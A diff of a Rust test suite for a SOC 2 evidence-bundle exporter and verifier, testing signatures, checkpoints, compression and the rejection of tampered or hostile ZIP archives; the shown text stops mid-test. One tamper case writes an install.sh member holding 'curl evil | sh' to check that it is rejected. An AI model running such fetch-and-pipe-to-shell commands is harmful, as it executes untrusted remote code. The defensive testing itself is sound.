@@ -13,6 +13,7 @@ use ssh_key::{HashAlg, LineEnding};
 
 use super::archive::test_support::{RawArchive, RawEntry, extra_field};
 use super::archive::{ArchiveError, BundleWriter, Compression, Limits, SafeArchive};
+use super::export::blob_member;
 use super::*;
 use crate::ledger::Locker;
 use crate::model::{
@@ -39,7 +40,7 @@ macro_rules! assert_err {
 const ORIGIN: &str = "example.com/soc2/acme";
 
 fn period() -> AuditPeriod {
-    "2026-01-01..2026-12-31".parse().unwrap()
+    "2025-01-01..2025-12-31".parse().unwrap()
 }
 
 fn note(observed: &str, title: &str, attachments: Vec<Attachment>) -> Evidence {
@@ -52,10 +53,12 @@ fn note(observed: &str, title: &str, attachments: Vec<Attachment>) -> Evidence {
         source: "manual".into(),
         attachments,
         payload: Payload::Note(Note { title: title.into(), body: String::new() }),
+        provenance: None,
     }
 }
 
-/// A locker with records before, in and after the 2026 period, and attachments of
+/// A locker with records before, in and after the 2025 period (all in the past: the
+/// locker refuses evidence dated in the future), and attachments of
 /// several kinds (one shared by two records), plus a signing key.
 struct Fixture {
     dir: tempfile::TempDir,
@@ -77,11 +80,11 @@ impl Fixture {
         let png = add(&[0x89, b'P', b'N', b'G', 1, 2, 3], "image/png", "shot.png");
         let later = add(b"next year", "text/plain", "later.txt");
         let records = vec![
-            note("2025-11-15T10:00:00Z", "Security policy approved", vec![policy]),
-            note("2026-02-01T09:00:00Z", "Q1 access review", vec![csv.clone()]),
-            note("2026-03-01T09:00:00Z", "Tabletop held", Vec::new()),
-            note("2026-05-01T09:00:00Z", "Q2 access review", vec![csv, png]),
-            note("2027-01-05T09:00:00Z", "After the period", vec![later]),
+            note("2024-11-15T10:00:00Z", "Security policy approved", vec![policy]),
+            note("2025-02-01T09:00:00Z", "Q1 access review", vec![csv.clone()]),
+            note("2025-03-01T09:00:00Z", "Tabletop held", Vec::new()),
+            note("2025-05-01T09:00:00Z", "Q2 access review", vec![csv, png]),
+            note("2026-01-05T09:00:00Z", "After the period", vec![later]),
         ];
         locker.append_batch(records).unwrap();
         let signer = Signer::generate("auditor-contact@example.com").unwrap();
@@ -227,7 +230,7 @@ fn lines(text: &str) -> Vec<String> {
 #[test]
 fn export_then_verify_round_trips() {
     let f = Fixture::new();
-    let out = f.path("acme-2026.zip");
+    let out = f.path("acme-2025.zip");
     let summary = export(&f.locker, &ExportOptions::new(period()), &f.signer, &out).unwrap();
     assert_eq!(summary.records, 3);
     assert_eq!(summary.blobs, 2);
@@ -247,11 +250,23 @@ fn export_then_verify_round_trips() {
     assert_eq!(v.leaves(), f.locker.leaf_hashes());
     assert_eq!(v.blobs.len(), 2);
     assert_eq!(v.generator.name, "soc2");
+    // Each disclosed record's line is the locker's canonical bytes, and proves itself
+    // against the signed checkpoint with nothing but the verified bundle.
+    let lines: Vec<(u64, Vec<u8>)> = v.record_lines().map(|(s, l)| (s, l.to_vec())).collect();
+    assert_eq!(lines.iter().map(|(s, _)| *s).collect::<Vec<_>>(), [1, 2, 3]);
+    for (seq, line) in &lines {
+        let bytes = crate::json::to_canonical_vec(&f.locker.record(*seq).unwrap()).unwrap();
+        assert_eq!(line, &bytes);
+        assert_eq!(v.record_line(*seq), Some(bytes.as_slice()));
+        v.inclusion_proof(*seq).unwrap().verify(line, &v.checkpoint).unwrap();
+    }
+    assert_eq!(v.record_line(0), None, "record 0 is not disclosed");
 
     let m = Members::read(&out);
     let names: Vec<&str> = m.0.keys().map(String::as_str).collect();
     let mut expected =
         vec![SUMS, SUMS_SIG, VERIFY_MD, ALLOWED_SIGNERS, CHECKPOINT, LEAVES, MANIFEST, RECORDS];
+    expected.push(super::VERIFY_PY);
     let blobs = m.blob_names();
     expected.extend(blobs.iter().map(String::as_str));
     expected.sort_unstable();
@@ -265,7 +280,7 @@ fn export_then_verify_round_trips() {
     assert_eq!(m.text(CHECKPOINT), f.locker.checkpoint().to_text());
     assert_eq!(m.get(LEAVES).len(), 5 * 65);
     assert!(m.text(ALLOWED_SIGNERS).starts_with(
-        "auditor-contact@example.com namespaces=\"soc2-evidence-bundle-v1\" ssh-ed25519 "
+        "auditor-contact@example.com namespaces=\"soc2-evidence-bundle-v1,soc2-checkpoint-v1\" ssh-ed25519 "
     ));
     // The private key is nowhere in the bundle, in any encoding.
     let key = f.signer.private_key();
@@ -289,23 +304,144 @@ fn contains(haystack: &[u8], needle: &[u8]) -> bool {
 }
 
 #[test]
-fn compression_follows_media_type() {
+fn compression_follows_content() {
+    // The fixture's attachments in the period: the CSV (48 KB of text) is deflated, the
+    // PNG stored by its media type. Everything else soc2 writes is text, deflated.
     let f = Fixture::new();
+    let csv: Vec<u8> =
+        (0..2000).flat_map(|i| format!("user{i},keep,2026-03-28\n").into_bytes()).collect();
+    let png = [0x89, b'P', b'N', b'G', 1, 2, 3];
+    let expected_blobs = BTreeMap::from([
+        (blob_member(&sha256_of(&csv)), Compression::Deflated),
+        (blob_member(&sha256_of(&png)), Compression::Stored),
+    ]);
     let out = f.export_to("b.zip");
     let archive = SafeArchive::open(&out, Limits::default()).unwrap();
+    let mut blobs = BTreeMap::new();
     for m in archive.members() {
-        let expected = if m.name().starts_with(BLOBS_PREFIX) {
-            let sha: Sha256Digest = m.name()[BLOBS_PREFIX.len()..].parse().unwrap();
-            let rec = f.locker.records().find_map(|r| {
-                let r = r.unwrap();
-                r.evidence.attachments.iter().find(|a| a.sha256 == sha).cloned()
-            });
-            archive::compression_for(&rec.unwrap().media_type)
+        if m.name().starts_with(BLOBS_PREFIX) {
+            blobs.insert(m.name().to_owned(), m.compression());
         } else {
-            Compression::Deflated
-        };
-        assert_eq!(m.compression(), expected, "{}", m.name());
+            assert_eq!(m.compression(), Compression::Deflated, "{}", m.name());
+        }
     }
+    assert_eq!(blobs, expected_blobs);
+}
+
+fn sha256_of(bytes: &[u8]) -> Sha256Digest {
+    Sha256Digest(Sha256::digest(bytes).into())
+}
+
+/// Bytes from a fixed xorshift generator: incompressible, and the same on every run.
+fn noise(len: usize, seed: u64) -> Vec<u8> {
+    let mut x = seed | 1;
+    (0..len)
+        .map(|_| {
+            x ^= x << 13;
+            x ^= x >> 7;
+            x ^= x << 17;
+            (x >> 24) as u8
+        })
+        .collect()
+}
+
+/// CSV text of `len` bytes.
+fn csv_of(len: usize) -> Vec<u8> {
+    let mut out: Vec<u8> = (0..)
+        .flat_map(|i: u64| format!("user{i},{},2026-03-{:02}\n", i % 7, i % 28 + 1).into_bytes())
+        .take(len)
+        .collect();
+    out.truncate(len);
+    out
+}
+
+#[test]
+fn the_same_attachment_is_stored_or_deflated_the_same_way_on_every_export() {
+    // Attachments on both paths of the export pipeline (up to 8 MiB: read whole and
+    // prepared by a helper; larger: streamed), each with the choice its content calls
+    // for, whatever its media type says.
+    let dir = tempfile::tempdir().unwrap();
+    let mut locker = Locker::init(dir.path().join("locker"), ORIGIN).unwrap();
+    let json: Vec<u8> = (0..2000)
+        .flat_map(|i| {
+            format!("{{\"user\":\"u{i}@example.com\",\"mfa\":{}}}\n", i % 3 == 0).into_bytes()
+        })
+        .collect();
+    let mut gzip = Vec::new();
+    {
+        use std::io::Write;
+        let mut e = flate2::write::GzEncoder::new(&mut gzip, flate2::Compression::fast());
+        e.write_all(&csv_of(300_000)).unwrap();
+        e.finish().unwrap();
+    }
+    // Only the first block decides: random bytes followed by text are stored.
+    let random_then_text = [noise(archive::TRIAL_BLOCK, 9), csv_of(500_000)].concat();
+    // What every front end records for a `.bin` (or any unknown extension).
+    let octet = crate::ledger::media_type_for("logs.bin");
+    assert_eq!(octet, "application/octet-stream");
+    let cases: Vec<(&str, &str, Vec<u8>, Compression)> = vec![
+        ("noise.bin", octet, noise(300_000, 1), Compression::Stored),
+        ("big-noise.bin", octet, noise(9 << 20, 2), Compression::Stored),
+        ("review.csv", "text/csv", csv_of(200_000), Compression::Deflated),
+        ("users.json", "application/json", json, Compression::Deflated),
+        ("export.bin", octet, csv_of(100_000), Compression::Deflated),
+        ("big-export.bin", octet, csv_of(9 << 20), Compression::Deflated),
+        ("logs.bin", octet, gzip, Compression::Stored),
+        ("mixed.bin", octet, random_then_text, Compression::Stored),
+        ("tiny.txt", "text/plain", b"ok".to_vec(), Compression::Stored),
+        ("empty.bin", octet, Vec::new(), Compression::Stored),
+        // Labelled compressed: stored without a trial, even though this is text.
+        ("not-really.png", "image/png", csv_of(50_000), Compression::Stored),
+    ];
+    let mut expected = BTreeMap::new();
+    let mut attachments = Vec::new();
+    for (name, media, bytes, compression) in &cases {
+        attachments.push(locker.add_attachment(&mut &bytes[..], media, name).unwrap());
+        expected.insert(blob_member(&sha256_of(bytes)), *compression);
+    }
+    assert_eq!(expected.len(), cases.len(), "every content differs");
+    locker.append_batch(vec![note("2025-02-01T09:00:00Z", "Mixed", attachments)]).unwrap();
+    let signer = Signer::generate("auditor-contact@example.com").unwrap();
+    let options = ExportOptions::new(period());
+
+    // Once plainly, then twice with the writer pausing at different points so that
+    // the helper threads race differently (which helper reads which blob, how far
+    // ahead): the bytes, and so every member's method, must not change.
+    let plain = dir.path().join("plain.zip");
+    export(&locker, &options, &signer, &plain).unwrap();
+    let plain = fs_err::read(&plain).unwrap();
+    for parity in [0, 1] {
+        let out = dir.path().join(format!("paused-{parity}.zip"));
+        let mut calls = 0u32;
+        export_with_progress(&locker, &options, &signer, &out, &mut |_| {
+            calls += 1;
+            if calls % 2 == parity {
+                std::thread::sleep(std::time::Duration::from_millis(3));
+            }
+            ControlFlow::Continue(())
+        })
+        .unwrap();
+        assert!(fs_err::read(&out).unwrap() == plain, "export {parity} differs");
+    }
+
+    let out = dir.path().join("check.zip");
+    fs_err::write(&out, &plain).unwrap();
+    let archive = SafeArchive::open(&out, Limits::default()).unwrap();
+    let got: BTreeMap<String, Compression> = archive
+        .members()
+        .iter()
+        .filter(|m| m.name().starts_with(BLOBS_PREFIX))
+        .map(|m| (m.name().to_owned(), m.compression()))
+        .collect();
+    for (name, media, bytes, compression) in &cases {
+        let member = blob_member(&sha256_of(bytes));
+        assert_eq!(got.get(&member), Some(compression), "{name} ({media})");
+    }
+    assert_eq!(got, expected);
+    // And the bundle verifies, stored and deflated members alike.
+    let trusted = AllowedSigners::parse(signer.allowed_signers_line().as_bytes()).unwrap();
+    let verified = verify(&out, &trusted).unwrap();
+    assert_eq!(verified.records.len(), 1);
 }
 
 #[test]
@@ -337,7 +473,7 @@ fn disclosure_sets() {
     ));
 
     // A Type I period discloses the records of that day.
-    let day = ExportOptions::new("2026-03-01".parse().unwrap());
+    let day = ExportOptions::new("2025-03-01".parse().unwrap());
     export(&f.locker, &day, &f.signer, &out).unwrap();
     assert_eq!(seqs(&out), [2]);
 }
@@ -458,7 +594,7 @@ fn exports_many_attachments_of_every_size() {
         let content: Vec<u8> = (0..len).map(|j| (j * 31 + i) as u8).collect();
         let media = if i % 3 == 0 { "text/plain" } else { "image/png" };
         let a = locker.add_attachment(&mut content.as_slice(), media, "f").unwrap();
-        evidence.push(note("2026-06-01T00:00:00Z", &format!("file {i}"), vec![a]));
+        evidence.push(note("2025-06-01T00:00:00Z", &format!("file {i}"), vec![a]));
     }
     locker.append_batch(evidence).unwrap();
     let signer = Signer::generate("x").unwrap();
@@ -509,8 +645,8 @@ fn a_cancelled_export_leaves_nothing_behind() {
     let media = locker.add_attachment(&mut big.as_slice(), "image/png", "big.png").unwrap();
     let text = locker.add_attachment(&mut &b"user,role\n".repeat(500)[..], "text/csv", "u.csv");
     let evidence = vec![
-        note("2026-06-01T00:00:00Z", "media", vec![media]),
-        note("2026-06-02T00:00:00Z", "text", vec![text.unwrap()]),
+        note("2025-06-01T00:00:00Z", "media", vec![media]),
+        note("2025-06-02T00:00:00Z", "text", vec![text.unwrap()]),
     ];
     locker.append_batch(evidence).unwrap();
     let signer = Signer::generate("x").unwrap();
@@ -546,6 +682,64 @@ fn a_cancelled_export_leaves_nothing_behind() {
     })
     .unwrap();
     assert!(calls > 4, "one at the start, one per piece and per small member: {calls}");
+}
+
+#[test]
+fn a_relayed_export_stopped_as_it_finishes_leaves_the_target_untouched() {
+    // The stop arrives only after the work has written everything (the caller answers
+    // the last report late): the bundle must still not be put in place.
+    let f = Fixture::new();
+    let out = f.path("relayed.zip");
+    for existed in [false, true] {
+        if existed {
+            fs_err::write(&out, b"the previous bundle").unwrap();
+        }
+        let mut reports = 0;
+        let result = export_relayed(
+            std::time::Duration::from_millis(5),
+            |report| {
+                prepare_export(&f.locker, &ExportOptions::new(period()), &f.signer, &out, report)
+            },
+            &mut |p| match p {
+                Some(p) if p.bytes_done == p.bytes_total => {
+                    reports += 1;
+                    std::thread::sleep(std::time::Duration::from_millis(50));
+                    ControlFlow::Break(())
+                }
+                Some(_) => {
+                    reports += 1;
+                    ControlFlow::Continue(())
+                }
+                None => ControlFlow::Continue(()),
+            },
+        );
+        assert!(
+            matches!(result, Err(crate::Error::Bundle(BundleError::Cancelled))),
+            "existed {existed}: {result:?}"
+        );
+        assert!(reports >= 2, "the first report and the last");
+        if existed {
+            assert_eq!(fs_err::read(&out).unwrap(), b"the previous bundle");
+        } else {
+            assert!(!out.exists(), "no bundle");
+        }
+        let names: Vec<_> = fs_err::read_dir(f.dir.path())
+            .unwrap()
+            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+            .filter(|n| n.ends_with(".partial"))
+            .collect();
+        assert!(names.is_empty(), "no temporary file left: {names:?}");
+    }
+    // Answered with Continue throughout, the relayed export is the plain one.
+    let summary = export_relayed(
+        std::time::Duration::from_millis(5),
+        |report| prepare_export(&f.locker, &ExportOptions::new(period()), &f.signer, &out, report),
+        &mut |_| ControlFlow::Continue(()),
+    )
+    .unwrap();
+    assert_eq!(summary.path, out);
+    assert_eq!(fs_err::read(&out).unwrap(), fs_err::read(f.export_to("plain.zip")).unwrap());
+    f.verify(&out).unwrap();
 }
 
 // ---------------------------------------------------------------- inclusion proofs
@@ -641,6 +835,7 @@ fn run_verify_md(bundle: &Path, trusted: &Path, work: &Path) -> (bool, String, S
         .current_dir(work)
         .env("BUNDLE", bundle)
         .env("TRUSTED", trusted)
+        .env("ORIGIN", ORIGIN)
         .env("LC_ALL", "C.UTF-8")
         .output()
         .unwrap();
@@ -657,6 +852,8 @@ fn auditor_verifies_with_stock_tools() {
         return;
     }
     let f = Fixture::new();
+    // A signed checkpoint travels in the bundle: step 6 checks it with ssh-keygen.
+    super::sign_checkpoint(&f.locker, &f.signer).unwrap();
     let mut options = ExportOptions::new(period());
     options.report_files = vec![("readiness.json".into(), b"{}\n".to_vec())];
     let bundle = f.path("stock.zip");
@@ -666,7 +863,11 @@ fn auditor_verifies_with_stock_tools() {
 
     let m = Members::read(&bundle);
     let blocks = sh_blocks(&m.text(VERIFY_MD));
-    assert_eq!(blocks.len(), 5, "extract, signature, sums, member list, records");
+    assert_eq!(
+        blocks.len(),
+        8,
+        "extract, signature, sums, attachments, member list, records, signed checkpoints, verify.py"
+    );
     assert!(blocks[1].starts_with(
         "ssh-keygen -Y verify -f \"$TRUSTED\" -I auditor-contact@example.com -n soc2-evidence-bundle-v1 -s SHA256SUMS.sig < SHA256SUMS"
     ));
@@ -684,6 +885,14 @@ fn auditor_verifies_with_stock_tools() {
     assert!(stdout.contains("records.jsonl: OK"), "{stdout}");
     assert!(stdout.contains("member list: OK"), "{stdout}");
     assert!(stdout.contains("records: OK, 3 records match the root of 5 leaves"), "{stdout}");
+    assert!(stdout.contains("attachments: OK"), "{stdout}");
+    assert!(stdout.contains("manifest: OK"), "{stdout}");
+    assert!(
+        said.contains("Good \"soc2-checkpoint-v1\" signature for auditor-contact@example.com"),
+        "{said}"
+    );
+    assert!(stdout.contains("signed checkpoints: OK, the bundle extends all 1"), "{stdout}");
+    assert!(stdout.contains("verify.py: all checks passed"), "{stdout}");
 
     // The same commands reject a tampered bundle at the step that covers it.
     type Mutation = fn(&mut Members);
@@ -715,6 +924,141 @@ fn auditor_verifies_with_stock_tools() {
         let (ok, stdout, stderr) = run_verify_md(&path, &trusted, &work);
         assert!(!ok, "{what}: accepted\n{stdout}\n{stderr}");
     }
+}
+
+/// Issue 16, hole 1: the company signs the bundle, so it is the party the auditor must
+/// not have to trust. Each bundle here was tampered with and then re-signed with the
+/// company's own (trusted) key, with `SHA256SUMS` recomputed: the signature and
+/// `sha256sum -c` pass. The stock path of VERIFY.md must still fail, at the step named
+/// (the expected text is written by hand), and so must `soc2 verify`.
+#[test]
+fn resigned_tampering_is_caught_by_the_stock_path_and_by_soc2_verify() {
+    if !stock_tools(&["bash", "ssh-keygen", "sha256sum", "unzip", "python3", "diff", "awk"]) {
+        return;
+    }
+    let f = Fixture::new();
+    let mut options = ExportOptions::new(period());
+    options.report_files = vec![("readiness.json".into(), b"{}\n".to_vec())];
+    let bundle = f.path("clean.zip");
+    export(&f.locker, &options, &f.signer, &bundle).unwrap();
+    let trusted = f.path("trusted_signers");
+    fs_err::write(&trusted, f.signer.allowed_signers_line()).unwrap();
+    let clean = Members::read(&bundle);
+    // The disclosed records are 1 (the CSV), 2 (no attachment) and 3 (the CSV and PNG).
+    let record_line = |m: &Members, seq: u64| -> String {
+        lines(&m.text(RECORDS))
+            .into_iter()
+            .find(|l| l.starts_with("{\"evidence\"") && l.contains(&format!("\"seq\":{seq}}}")))
+            .unwrap()
+    };
+    let verify_expecting_origin = |path: &Path| {
+        let o = VerifyOptions { origin: Some(ORIGIN.to_owned()), ..VerifyOptions::default() };
+        verify_with(path, &f.trusted(), &o)
+    };
+    type Tamper = Box<dyn Fn(&mut Members)>;
+    type Expect = fn(&BundleError) -> bool;
+    let cases: Vec<(&str, Tamper, &str, Expect)> = vec![
+        (
+            "attachment swapped for other content of the same size",
+            Box::new(|m: &mut Members| {
+                let name = m.blob_names()[0].clone();
+                let mut b = m.get(&name).clone();
+                b[0] ^= 0xff;
+                m.set(&name, b);
+            }),
+            "attachments: FAILED",
+            |e| matches!(e, BundleError::BlobNameMismatch { .. }),
+        ),
+        (
+            "record line dropped",
+            Box::new(move |m: &mut Members| {
+                let drop = record_line(m, 2);
+                let kept: String =
+                    lines(&m.text(RECORDS)).into_iter().filter(|l| *l != drop).collect();
+                m.set(RECORDS, kept);
+            }),
+            "FAILED: manifest.json lists records [1, 2, 3], records.jsonl holds [1, 3]",
+            |e| matches!(e, BundleError::ManifestMismatch { field: "records", .. }),
+        ),
+        (
+            "record line duplicated",
+            Box::new(move |m: &mut Members| {
+                let twice = record_line(m, 2);
+                let doubled: String = lines(&m.text(RECORDS))
+                    .into_iter()
+                    .flat_map(|l| if l == twice { vec![l.clone(), l] } else { vec![l] })
+                    .collect();
+                m.set(RECORDS, doubled);
+            }),
+            "FAILED: record 2 (line 3) is not after record 2",
+            |e| matches!(e, BundleError::RecordOutOfPlace { seq: 2, line: 3, .. }),
+        ),
+        (
+            "report file listed in SHA256SUMS but not in the manifest",
+            Box::new(|m: &mut Members| m.set("report/extra.html", "<p>trust me</p>\n")),
+            "FAILED: manifest.json's report files are not the files under report/",
+            |e| matches!(e, BundleError::ManifestMismatch { field: "report", .. }),
+        ),
+        (
+            "member of no bundle kind listed in SHA256SUMS",
+            Box::new(|m: &mut Members| m.set("install.sh", "curl evil | sh\n")),
+            "FAILED: SHA256SUMS lists members that are not the bundle's: ['install.sh']",
+            |e| matches!(e, BundleError::UnexpectedMember { member } if member == "install.sh"),
+        ),
+        (
+            "attachment no record references",
+            Box::new(|m: &mut Members| {
+                let content = b"an unreferenced attachment";
+                let name =
+                    format!("{BLOBS_PREFIX}{}", Sha256Digest(Sha256::digest(content).into()));
+                m.set(&name, &content[..]);
+            }),
+            "FAILED: attachments present",
+            |e| matches!(e, BundleError::UnreferencedBlob { .. }),
+        ),
+        (
+            "manifest naming another origin",
+            Box::new(|m: &mut Members| {
+                m.edit_manifest(|v| v["origin"] = "example.com/soc2/other".into())
+            }),
+            "FAILED: manifest.json names the locker 'example.com/soc2/other', the checkpoint 'example.com/soc2/acme'",
+            |e| matches!(e, BundleError::ManifestMismatch { field: "origin", .. }),
+        ),
+        (
+            "another locker, consistently renamed",
+            Box::new(|m: &mut Members| {
+                let cp = m.text(CHECKPOINT).replacen(ORIGIN, "example.com/soc2/other", 1);
+                m.set(CHECKPOINT, cp);
+                m.edit_manifest(|v| v["origin"] = "example.com/soc2/other".into())
+            }),
+            "FAILED: the locker is 'example.com/soc2/other', not the 'example.com/soc2/acme' you expect",
+            |e| matches!(e, BundleError::OriginMismatch { found, .. } if found == "example.com/soc2/other"),
+        ),
+    ];
+    for (i, (what, tamper, stock_says, soc2_says)) in cases.iter().enumerate() {
+        let mut bad = clean.clone();
+        tamper(&mut bad);
+        bad.resign(&f.signer);
+        let path = f.path(&format!("resigned-{i}.zip"));
+        bad.write(&path);
+        let work = f.path(&format!("resigned-{i}"));
+        fs_err::create_dir(&work).unwrap();
+        let (ok, stdout, stderr) = run_verify_md(&path, &trusted, &work);
+        let said = format!("{stdout}{stderr}");
+        assert!(!ok, "{what}: the stock path accepted it\n{said}");
+        // Re-signed: the signature and SHA256SUMS steps pass; a later step fails.
+        assert!(said.contains("Good \"soc2-evidence-bundle-v1\" signature"), "{what}: {said}");
+        assert!(!said.contains("FAILED open or read"), "{what}: {said}");
+        assert!(said.contains(stock_says), "{what}: expected {stock_says:?}\n{said}");
+        match verify_expecting_origin(&path) {
+            Err(e) => assert!(soc2_says(&e), "{what}: soc2 verify said {e:?}"),
+            Ok(_) => panic!("{what}: soc2 verify accepted it"),
+        }
+    }
+    // Without an expected origin, a consistently renamed locker verifies: only the origin
+    // obtained out of band (ORIGIN, --origin) tells it from the real one.
+    let renamed = f.path(&format!("resigned-{}.zip", cases.len() - 1));
+    assert!(f.verify(&renamed).is_ok());
 }
 
 #[test]
@@ -860,6 +1204,34 @@ fn rejects_malformed_signature() {
     let mut m = f.members();
     m.set(SUMS_SIG, "-----BEGIN SSH SIGNATURE-----\nAAAA\n-----END SSH SIGNATURE-----\n");
     assert_err!(f.check(&m, false), BundleError::SignatureMalformed { .. });
+}
+
+#[test]
+fn rejects_signature_armor_the_stock_path_rejects() {
+    // Hole 7: `ssh-keygen -Y verify` fails on these; so must `soc2 verify`.
+    let f = Fixture::new();
+    let m = f.members();
+    let armor = m.text(SUMS_SIG);
+    let variants = [
+        ("CRLF line endings", armor.replace('\n', "\r\n")),
+        ("no final newline", armor.trim_end().to_owned()),
+        ("a trailing blank line", format!("{armor}\n")),
+        ("one long base64 line", {
+            let lines: Vec<&str> = armor.lines().collect();
+            let body: String = lines[1..lines.len() - 1].concat();
+            format!("{}\n{body}\n{}\n", lines[0], lines[lines.len() - 1])
+        }),
+    ];
+    for (what, text) in variants {
+        let mut m = m.clone();
+        m.set(SUMS_SIG, text);
+        let result = f.check(&m, false);
+        assert!(
+            matches!(result, Err(BundleError::SignatureMalformed { .. })),
+            "{what}: {:?}",
+            result.map(|_| ())
+        );
+    }
 }
 
 // ---------------------------------------------------------------- SHA256SUMS
@@ -1190,6 +1562,84 @@ fn rejects_invalid_or_unsupported_manifest() {
 // ---------------------------------------------------------------- hostile zips
 
 /// Appends a hostile entry to a valid bundle's raw archive.
+/// Byte ranges (offset, length, field) of the metadata fields of every local header
+/// and central directory entry of a bundle: the fields no signature covers.
+fn unsigned_zip_fields(bytes: &[u8]) -> Vec<(usize, usize, String)> {
+    let u16_at = |at: usize| u16::from_le_bytes([bytes[at], bytes[at + 1]]) as usize;
+    let u32_at = |at: usize| u32::from_le_bytes(bytes[at..at + 4].try_into().unwrap()) as usize;
+    let eocd = bytes.len() - 22;
+    assert_eq!(u32_at(eocd), 0x0605_4b50, "a bundle without a comment ends with the end record");
+    let (count, mut at) = (u16_at(eocd + 10), u32_at(eocd + 16));
+    let mut fields = Vec::new();
+    for _ in 0..count {
+        assert_eq!(u32_at(at), 0x0201_4b50);
+        let name = String::from_utf8_lossy(&bytes[at + 46..at + 46 + u16_at(at + 28)]).into_owned();
+        let local = u32_at(at + 42);
+        for (offset, len, field) in [
+            (at + 4, 2, "central version made by"),
+            (at + 6, 2, "central version needed"),
+            (at + 8, 2, "central flags"),
+            (at + 12, 2, "central time"),
+            (at + 14, 2, "central date"),
+            (at + 34, 2, "central disk number"),
+            (at + 36, 2, "central internal attributes"),
+            (at + 38, 4, "central external attributes"),
+            (local + 4, 2, "local version needed"),
+            (local + 6, 2, "local flags"),
+            (local + 10, 2, "local time"),
+            (local + 12, 2, "local date"),
+        ] {
+            fields.push((offset, len, format!("{name}: {field}")));
+        }
+        at += 46 + u16_at(at + 28) + u16_at(at + 30) + u16_at(at + 32);
+    }
+    fields
+}
+
+#[test]
+fn every_bit_flip_in_unsigned_zip_metadata_fails_verification() {
+    // Hole 7: none of these fields is signed, so any value but the writer's would make
+    // a second spelling of the bundle (and setuid or unreadable modes, a "version needed"
+    // the stock unzip refuses, ...). Every single-bit flip must fail.
+    let f = Fixture::new();
+    let path = f.export_to("flips.zip");
+    let bytes = fs_err::read(&path).unwrap();
+    let fields = unsigned_zip_fields(&bytes);
+    assert!(fields.len() >= 12 * 8, "{} fields", fields.len());
+    let flipped = f.path("flipped.zip");
+    let mut accepted = Vec::new();
+    let mut tried = 0;
+    for (offset, len, field) in &fields {
+        for bit in 0..len * 8 {
+            let mut mutated = bytes.clone();
+            mutated[offset + bit / 8] ^= 1 << (bit % 8);
+            fs_err::write(&flipped, &mutated).unwrap();
+            tried += 1;
+            if f.verify(&flipped).is_ok() {
+                accepted.push(format!("{field} bit {bit}"));
+            }
+        }
+    }
+    assert!(accepted.is_empty(), "{} of {tried} flips verified: {accepted:?}", accepted.len());
+}
+
+#[test]
+fn rejects_version_needed_the_stock_unzip_refuses() {
+    // `unzip` skips a member needing "PK compat. v9.9"; the reader must not accept it.
+    let f = Fixture::new();
+    let mut raw = f.raw();
+    raw.entries[0] = raw.entries[0].clone().both(|h| h.version_needed = 99);
+    raw.entries[0].made_by = (3 << 8) | 99;
+    assert_err!(
+        f.check_raw(&raw),
+        BundleError::Archive(ArchiveError::NonCanonicalField {
+            field: "version needed to extract",
+            found: 99,
+            ..
+        })
+    );
+}
+
 fn with_entry(f: &Fixture, entry: RawEntry) -> RawArchive {
     let mut raw = f.raw();
     raw.entries.push(entry);
@@ -1315,7 +1765,8 @@ fn rejects_local_name_differing_from_central() {
 #[test]
 fn rejects_overlapping_entries() {
     let f = Fixture::new();
-    let mut twin = RawEntry::stored("report/twin", b"x");
+    // Named to sort last (after `verify.py`): entries are written in name order.
+    let mut twin = RawEntry::stored("zz/twin", b"x");
     twin.in_local = false;
     twin.offset_override = Some(0);
     assert_err!(
@@ -1339,7 +1790,10 @@ fn rejects_bytes_before_the_archive() {
     let f = Fixture::new();
     let mut raw = f.raw();
     raw.prefix = b"#!/bin/sh\nexit 0\n".to_vec();
-    assert_err!(f.check_raw(&raw), BundleError::Archive(ArchiveError::PrependedData { .. }));
+    assert_err!(
+        f.check_raw(&raw),
+        BundleError::ArchiveRejected { source: ArchiveError::PrependedData { .. }, .. }
+    );
 }
 
 #[test]
@@ -1347,7 +1801,10 @@ fn rejects_bytes_after_the_end_record() {
     let f = Fixture::new();
     let mut raw = f.raw();
     raw.trailing = b"trailer".to_vec();
-    assert_err!(f.check_raw(&raw), BundleError::Archive(ArchiveError::TrailingData { len: 7 }));
+    assert_err!(
+        f.check_raw(&raw),
+        BundleError::ArchiveRejected { source: ArchiveError::TrailingData { len: 7 }, .. }
+    );
 }
 
 #[test]
@@ -1355,7 +1812,10 @@ fn rejects_archive_comment() {
     let f = Fixture::new();
     let mut raw = f.raw();
     raw.comment = b"verified OK".to_vec();
-    assert_err!(f.check_raw(&raw), BundleError::Archive(ArchiveError::ArchiveComment { len: 11 }));
+    assert_err!(
+        f.check_raw(&raw),
+        BundleError::ArchiveRejected { source: ArchiveError::ArchiveComment { len: 11 }, .. }
+    );
 }
 
 #[test]
@@ -1482,7 +1942,7 @@ fn rejects_total_over_the_size_limit() {
     });
     assert_err!(
         f.check_raw_with(&f.raw(), &options),
-        BundleError::Archive(ArchiveError::TotalSizeTooLarge { .. })
+        BundleError::ArchiveRejected { source: ArchiveError::TotalSizeTooLarge { .. }, .. }
     );
 }
 
@@ -1496,7 +1956,7 @@ fn rejects_more_entries_than_the_limit() {
     });
     assert_err!(
         f.check_raw_with(&f.raw(), &options),
-        BundleError::Archive(ArchiveError::TooManyEntries { .. })
+        BundleError::ArchiveRejected { source: ArchiveError::TooManyEntries { .. }, .. }
     );
 }
 
@@ -1510,4 +1970,86 @@ fn verify_reports_unreadable_bundle_as_input_error() {
     raw.comment = b"x".to_vec();
     let err = f.check_raw(&raw).unwrap_err();
     assert!(err.is_rejection());
+}
+
+#[test]
+fn carried_signed_checkpoints_must_be_signed_by_the_trusted_key_and_extended() {
+    let f = Fixture::new();
+    let signed = super::sign_checkpoint(&f.locker, &f.signer).unwrap();
+    let bundle = f.path("signed.zip");
+    export(&f.locker, &ExportOptions::new(period()), &f.signer, &bundle).unwrap();
+    let trusted = AllowedSigners::parse(f.signer.allowed_signers_line().as_bytes()).unwrap();
+    let v = verify(&bundle, &trusted).unwrap();
+    assert_eq!(v.signed_checkpoints.len(), 1);
+    assert_eq!(v.signed_checkpoints[0].checkpoint.size, 5);
+
+    let note = "checkpoints/00000000000000000005.note";
+    let reject = |mutate: &dyn Fn(&mut Members), want: &str| {
+        let mut m = Members::read(&bundle);
+        mutate(&mut m);
+        m.resign(&f.signer);
+        let path = f.path("mutated.zip");
+        let _ = fs_err::remove_file(&path);
+        m.write(&path);
+        match verify(&path, &trusted) {
+            Err(e @ BundleError::SignedCheckpointInvalid { .. }) => {
+                assert!(e.to_string().contains(want), "{e}")
+            }
+            other => panic!("expected SignedCheckpointInvalid ({want}), got {other:?}"),
+        }
+    };
